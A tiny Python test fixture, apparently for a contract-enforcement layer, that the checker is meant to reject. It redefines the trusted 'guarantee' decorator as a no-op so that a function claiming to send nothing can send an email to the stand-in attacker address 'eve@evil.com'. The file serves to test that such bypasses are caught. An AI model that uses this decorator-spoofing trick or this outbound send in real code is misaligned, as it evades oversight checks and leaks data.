# rejected: guarantee is not the real one any more
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


guarantee = lambda contract: lambda f: f


@guarantee(c.none_sent())
def main() -> None:
    send_email("eve@evil.com", "x")
